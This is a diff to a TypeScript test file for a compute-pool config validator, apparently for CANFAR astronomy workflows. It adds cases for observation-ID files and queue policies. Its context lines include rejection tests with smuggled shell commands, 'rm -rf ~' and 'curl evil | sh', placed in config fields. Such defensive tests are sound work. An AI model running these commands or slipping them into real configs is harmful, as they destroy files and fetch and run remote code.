@@ -11,6 +11,9 @@ const ROOT = join(__dirname, "..", "..");
 const TSX = join(ROOT, "node_modules", ".bin", "tsx");
 const work = mkdtempSync(join(tmpdir(), "config-corpus-"));
 afterAll(() => rmSync(work, { recursive: true, force: true }));
+/** A survey's list with a bad line, for canfar:observationIdsFile (an absolute path). */
+const BAD_IDS = join(work, "w3-bad.txt");
+writeFileSync(BAD_IDS, "# W3\n1056215p\n1056216\n");
 
 type Config = Record<string, unknown>;
 interface Case {
@@ -104,6 +107,10 @@ const BROKEN: Case[] = [
   { what: "exposure as a number", edit: set("observationIds", [1056215]), key: "observationIds[0]" },
   { what: "exposure with shell", edit: set("observationIds", ["1056215p; rm -rf ~"]), key: "observationIds" },
   { what: "exposures not a list", edit: set("observationIds", "1056215p"), key: "observationIds" },
+  { what: "exposure file that is not there", edit: then(remove("observationIds"), set("observationIdsFile", "surveys/w3.txt")), key: "observationIdsFile" },
+  { what: "exposure file with a bad line", edit: then(remove("observationIds"), set("observationIdsFile", BAD_IDS)), key: "observationIdsFile" },
+  { what: "exposure file and list both", edit: set("observationIdsFile", "tests/fixtures/exposures-five.txt"), key: "observationIdsFile" },
+  { what: "a queue policy that does not exist", edit: set("queuePolicy", "failed"), key: "queuePolicy" },
   { what: "upgrade not a boolean", edit: set("upgradePackages", "perhaps"), key: "upgradePackages" },
   { what: "package with shell", edit: set("extraPackages", ["htop; curl evil | sh"]), key: "extraPackages[0]" },
   { what: "blank package", edit: set("extraPackages", [null]), key: "extraPackages[0]" },
@@ -168,6 +175,7 @@ const GOOD: Array<{ what: string; edit: (c: Config) => void }> = [
   { what: "csv2, an IPv6 range and extra packages", edit: (c) => { set("submitMode", "csv2")(c); set("sshIngressCidrs", ["198.51.100.0/24", "2001:db8::/32"])(c); set("extraPackages", ["htop", "python3-astropy"])(c); } },
   { what: "the longest snapshot prefix Glance takes", edit: set("snapshotPrefix", "x".repeat(233)) },
   { what: "a self-hosted pool of the defaults", edit: selfHosted },
+  { what: "a survey's IDs from a file, queued if missing", edit: then(remove("observationIds"), set("observationIdsFile", "tests/fixtures/exposures-five.txt"), set("queuePolicy", "missing")) },
   { what: "a self-hosted pool with no workers, a small submit node", edit: then(selfHosted, set("workerCount", 0), set("submitNodeFlavor", "p2-3gb")) },
 ];
 
